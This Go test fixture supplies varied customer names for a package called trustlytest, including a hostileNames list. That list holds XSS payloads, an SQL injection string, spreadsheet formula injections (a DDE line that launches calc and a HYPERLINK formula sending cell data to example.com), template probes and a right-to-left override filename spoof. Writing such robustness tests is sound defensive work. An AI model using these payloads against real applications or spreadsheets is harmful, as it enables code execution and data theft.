package trustlytest

import "strings"

// givenNames and familyNames are mixed freely, as they are in North America.
var (
	givenNames = []string{
		"Ada", "James", "Maria", "José", "Zoë", "Liam", "Olivia", "Noah", "Emma", "Ava", "Mateo", "Sofía", "Chloé", "François", "Renée",
		"Siobhán", "Seán", "Aisha", "Omar", "Fatima", "Priya", "Arjun", "Wei", "Mei", "Yuki", "Kenji", "Minh", "Linh", "Nguyệt", "Ngozi",
		"Chinedu", "Kwame", "Amara", "Björn", "Åsa", "Søren", "Łukasz", "Agnieszka", "Zdeněk", "Jiří", "Dmitri", "Olena", "İbrahim", "Ayşe",
		"Ali", "Grace", "Ethan", "Mia", "Lucas", "Harper", "DeShawn", "Latoya", "Mary-Jane", "Jean-Luc", "Kai", "Leilani", "Tāne", "Xóchitl",
	}
	familyNames = []string{
		"Smith", "Johnson", "Williams", "Brown", "García", "Rodríguez", "Martínez", "O'Brien", "O’Neill", "D'Angelo", "McDonald", "van der Berg",
		"de la Cruz", "Tremblay", "Lévesque", "Côté", "Nguyễn", "Trần", "Kim", "Park", "Chen", "Wang", "Tanaka", "Sato", "Singh", "Patel",
		"Khan", "Haddad", "Okafor", "Mensah", "Müller", "Schröder", "Weiß", "Jørgensen", "Ångström", "Kowalski", "Dvořák", "Novák", "Ivanov",
		"Shevchenko", "Yılmaz", "Öztürk", "Papadopoulos", "Rossi", "Ferreira-Gonçalves", "Kamehameha", "Begay", "Washington", "Lee", "St. John",
	}
)

// ownNames are written the way their owners write them.
var ownNames = []string{
	"王小明", "李雪梅", "張偉", "山田 太郎", "佐藤 花子", "김민수", "이서연", "Nguyễn Thị Minh Khai", "محمد عبد الله", "فاطمة الزهراء", "דוד כהן", "רחל לוי",
	"Иван Петров", "Олена Шевчук", "Γιώργος Παπαδόπουλος", "अर्जुन शर्मा", "ธนาคาร ใจดี", "Ğülşen Çağlar", "Þórdís Guðmundsdóttir",
}

// hostileNames are what someone types to see what happens, and what real people are called by accident. They make up
// a small share of the customers and all of them appear.
var hostileNames = []string{
	`<script>alert("trustly")</script>`,
	`<img src=x onerror=alert(1)>`,
	`"Bobby" 'Tables'; DROP TABLE students;--`,
	`</td></tr></table><h1>Owned</h1>`,
	`=HYPERLINK("http://example.com/?"&A1,"Click")`,
	`=1+1`,
	`+1`,
	`-1+2`,
	`@SUM(A1:A9)`,
	"\t=cmd|' /C calc'!A0",
	"=2*3\r\n=4*5",
	`Comma, Semicolon; "Quote"`,
	"Line\nBreak",
	"{{ .Secret }} ${7*7} %s%n",
	"&lt;already&gt; &amp; escaped",
	"👩‍👩‍👧‍👦 Family 🇨🇦 🏳️‍🌈",
	"\u202eevil\u202c exe.gpj",
	"שלום <b>עולם</b> abc 123",
	"Zalgo Z̷̢̛͓a̸̡͝l̵̨͠g̴̢̕o̶͜͠",
	"Zero\u200bWidth\u200dJoiner\ufeff",
	"NULL",
	"null",
	"undefined",
	"O",
	"  leading and trailing  ",
	`C:\Users\name\`,
	"javascript:alert(1)",
	strings.Repeat("Wolfeschlegelsteinhausen", 8) + "bergerdo", // 200 characters
	strings.Repeat("長", 200),
}
